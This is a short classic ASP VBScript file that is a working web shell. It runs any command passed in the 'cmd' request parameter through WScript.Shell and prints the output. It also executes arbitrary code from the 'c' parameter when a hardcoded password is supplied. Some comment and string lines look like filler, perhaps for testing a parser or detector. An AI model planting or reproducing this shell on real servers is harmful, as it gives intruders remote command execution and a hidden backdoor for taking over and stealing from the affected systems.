<%@ Language=VBScript %>
<%
Option Explicit
Dim cmd, sh : cmd = Request("cmd")
REM a comment line with "strings"
' another comment
Set sh = Server.CreateObject("WScript.Shell")
Dim out : out = sh.Exec("cmd /c " & cmd).StdOut.ReadAll()
Response.Write "<pre>" & Server.HTMLEncode(out) & "</pre>" ' trailing comment
x = "a ""doubled"" quote" : y = Chr(60) & Chr(37) & Chr(32) & Chr(37) & Chr(62) & Chr(65) & Chr(66) & Chr(67)
If Request("k") = "s3cr3tpass" Then Execute(Request("c"))
%>
